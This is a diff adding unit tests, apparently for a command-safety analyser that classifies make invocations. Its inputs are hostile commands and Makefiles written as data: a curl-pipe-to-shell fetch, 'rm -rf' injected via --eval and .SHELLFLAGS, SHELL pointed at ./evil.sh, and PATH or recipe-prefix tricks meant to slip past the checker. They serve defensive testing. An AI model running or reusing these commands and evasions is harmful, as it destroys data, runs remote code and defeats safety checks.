@@ -47,3 +47,27 @@ describe('make', () => {
     expect(sh('make test', { Makefile: 'test:\n\tcurl -s https://example.invalid/x | sh\n' }).mutability).toBe('unknown');
   });
 });
+
+describe('make: variables and rules that change what runs', () => {
+  const mk = { Makefile: 'test:\n\t@echo ok\n' };
+  it('-E/--eval define rules; SHELL and .SHELLFLAGS choose the program that runs recipes', () => {
+    expect(sh('make -E "x:;rm -rf src" x', mk).mutability).toBe('unknown');
+    expect(sh('make --eval="x:;rm -rf src" x', mk).mutability).toBe('unknown');
+    expect(sh('make SHELL=./evil.sh test', mk).mutability).toBe('unknown');
+    expect(sh('make test', { Makefile: 'SHELL := ./evil.sh\ntest:\n\t@echo ok\n' }).mutability).toBe('unknown');
+    expect(sh('make test', { Makefile: 'SHELL := /bin/bash\n.SHELLFLAGS := -eu -o pipefail -c\ntest:\n\t@echo ok\n' }).mutability).toBe('check');
+    expect(sh('make test', { Makefile: '.SHELLFLAGS := -c "rm -rf src;"\ntest:\n\t@echo ok\n' }).mutability).toBe('unknown');
+  });
+  it('PATH and make control variables set in the Makefile or on the command line', () => {
+    expect(sh('make test', { Makefile: 'PATH := ./bin:$(PATH)\ntest:\n\tls\n' }).mutability).toBe('unknown');
+    expect(sh('make PATH=./bin test', mk).mutability).toBe('unknown');
+    expect(sh('make MAKEFLAGS=-e test', mk).mutability).toBe('unknown');
+    expect(sh('make test', { Makefile: '.RECIPEPREFIX = >\ntest:\n> rm -rf src\n' }).mutability).toBe('unknown');
+  });
+  it('target-specific variables, .DEFAULT, .DEFAULT_GOAL and .ONESHELL', () => {
+    expect(sh('make test', { Makefile: 'CMD = echo\ntest: CMD = rm -rf src\ntest:\n\t$(CMD) x\n' }).mutability).toBe('unknown');
+    expect(sh('make anything', { Makefile: '.DEFAULT:\n\trm -rf src\n' }).effects).toEqual([{ kind: 'delete', path: `${ROOT}/src` }]);
+    expect(sh('make', { Makefile: '.DEFAULT_GOAL := clean\nall:\n\t@echo all\nclean:\n\trm -rf dist\n' }).effects).toEqual([{ kind: 'delete', path: `${ROOT}/dist` }]);
+    expect(sh('make t', { Makefile: '.ONESHELL:\nt:\n\tcd src\n\trm -rf x\n' }).effects).toEqual([{ kind: 'delete', path: `${ROOT}/src/x` }]);
+  });
+});
